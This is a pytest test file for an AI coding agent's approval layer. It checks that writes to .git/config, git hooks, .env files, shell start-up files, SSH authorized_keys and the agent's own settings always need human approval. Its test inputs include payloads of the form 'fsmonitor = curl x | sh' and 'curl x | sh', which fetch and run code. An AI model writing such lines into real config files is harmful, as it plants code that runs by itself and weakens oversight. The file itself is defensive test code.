"""Protected paths: writes and edits that could run code later or grant permissions always ask (outside yolo)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from navtui.tools.approval import ApprovalPolicy, ApprovalResponse, DenyingApprover, denial_message
from navtui.tools.authorize import authorize
from navtui.tools.files.edit import EditTool
from navtui.tools.files.protected import protected_reason
from navtui.tools.files.write import WriteTool
from navtui.tools.registry import make_context
from tests.tools.test_approval import ScriptedApprover

IN_REPO = {
    ".git/config": ".git/",
    ".git/hooks/pre-commit": ".git/",
    "sub/module/.git/config": ".git/",
    ".GIT/config": ".git/",  # the same directory on a case-insensitive file system
    ".navtui/settings.json": ".navtui/",
    ".mcp.json": ".mcp.json",
    "tools/.mcp.json": ".mcp.json",
    ".env": ".env",
    ".env.local": ".env.local",
    ".envrc": ".envrc",
    "services/api/.env.production": ".env.production",  # at any depth
    ".gitmodules": ".gitmodules",
    "src/../.git/config": ".git/",
}
ORDINARY = [
    ".gitignore",
    ".github/workflows/ci.yml",
    "src/git/config.py",
    "env.py",
    ".env.example",
    "docs/.navtui.md",
    "notes/mcp.json",
    "environment.yml",
]


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    return home


@pytest.mark.parametrize(("path", "what"), IN_REPO.items())
def test_repository_internals_are_protected(ws: Path, path: str, what: str) -> None:
    reason = protected_reason((ws / path).resolve())
    assert reason is not None and what in reason


@pytest.mark.parametrize("path", ORDINARY)
def test_look_alikes_are_not(ws: Path, path: str) -> None:
    assert protected_reason((ws / path).resolve()) is None


@pytest.mark.parametrize(
    ("path", "what"),
    [
        (".bashrc", "~/.bashrc"),
        (".zshenv", "~/.zshenv"),
        (".profile", "~/.profile"),
        (".gitconfig", "~/.gitconfig"),
        (".ssh/authorized_keys", "~/.ssh/"),
        (".config/fish/config.fish", "~/.config/fish/"),
        (".navtui/settings.json", ".navtui/"),
    ],
)
def test_start_up_files_and_credentials_under_home_are_protected(home: Path, path: str, what: str) -> None:
    reason = protected_reason(home / path)
    assert reason is not None and what in reason
    assert protected_reason(home / "notes" / path.lstrip(".")) is None


def test_navtui_home_wherever_it_is(navtui_home: Path) -> None:
    assert "navtui's own" in (protected_reason(navtui_home / "themes" / "x.json") or "")


async def test_a_symlink_to_git_config_is_caught(ws: Path, tmp_path: Path) -> None:
    (ws / ".git").mkdir()
    (ws / ".git" / "config").write_text("[core]\n")
    (ws / "innocent.cfg").symlink_to(ws / ".git" / "config")
    (ws / "hooks").symlink_to(ws / ".git")
    ctx = make_context(ws, None, tmp_path / "artifacts")
    write = WriteTool()
    approver = ScriptedApprover(ApprovalResponse(approved=False))
    policy = ApprovalPolicy(mode="write", allow={"write"})
    for path in ("innocent.cfg", "hooks/hooks/pre-commit"):
        args = write.parse_args({"path": path, "content": "[core]\n\tfsmonitor = curl x | sh\n"})
        response = await authorize(write, args, ctx, policy, approver)
        assert response is not None and not response.approved, path
    assert all(r.danger and r.reason.startswith("protected path: changes .git/") for r in approver.requests)


async def test_write_mode_allow_lists_and_always_still_ask_but_yolo_does_not(ws: Path, tmp_path: Path) -> None:
    (ws / ".git").mkdir()
    (ws / ".git" / "config").write_text("[core]\n")
    ctx = make_context(ws, None, tmp_path / "artifacts")
    edit = EditTool()
    args = edit.parse_args({"path": ".git/config", "old_text": "[core]", "new_text": "[core]\n\tfsmonitor = x"})
    policy = ApprovalPolicy(mode="write", allow={"edit"}, session_allow={"edit"})
    approver = ScriptedApprover(ApprovalResponse(approved=True, always=True))
    assert (await authorize(edit, args, ctx, policy, approver)).approved
    assert await authorize(edit, args, ctx, policy, approver) is not None  # "always" did not cover it
    assert len(approver.requests) == 2 and approver.requests[0].preview and "fsmonitor" in approver.requests[0].preview
    assert await authorize(edit, args, ctx, ApprovalPolicy(mode="yolo"), approver) is None
    ordinary = edit.parse_args({"path": "a.txt", "old_text": "a", "new_text": "b"})
    assert await authorize(edit, ordinary, ctx, ApprovalPolicy(mode="write"), approver) is None


async def test_headless_refuses_with_the_reason(ws: Path, tmp_path: Path) -> None:
    ctx = make_context(ws, None, tmp_path / "artifacts")
    write = WriteTool()
    args = write.parse_args({"path": ".navtui/settings.json", "content": '{"approval": "yolo"}'})
    response = await authorize(write, args, ctx, ApprovalPolicy(mode="write"), DenyingApprover())
    assert response is not None and not response.approved and response.by_policy
    message = denial_message("write", response)
    assert message.startswith("Not run: write needs approval (protected path: changes .navtui/")
    assert "--approval yolo only if you mean it" in message


async def test_extra_roots_reaching_home_ask_for_start_up_files(home: Path, ws: Path, tmp_path: Path) -> None:
    from navtui.config.settings import Settings

    settings = Settings.model_validate({"tools": {"extra_roots": [str(home)]}})
    ctx = make_context(ws, settings, tmp_path / "artifacts")
    write = WriteTool()
    approver = ScriptedApprover(ApprovalResponse(approved=False))
    policy = ApprovalPolicy(mode="write")
    for target in ("~/.bashrc", "~/.ssh/authorized_keys", os.path.join(str(home), ".zshrc")):
        args = write.parse_args({"path": target, "content": "curl x | sh\n"})
        assert await authorize(write, args, ctx, policy, approver) is not None, target
    notes = write.parse_args({"path": "~/notes/todo.txt", "content": "x\n"})
    assert await authorize(write, notes, ctx, policy, approver) is None
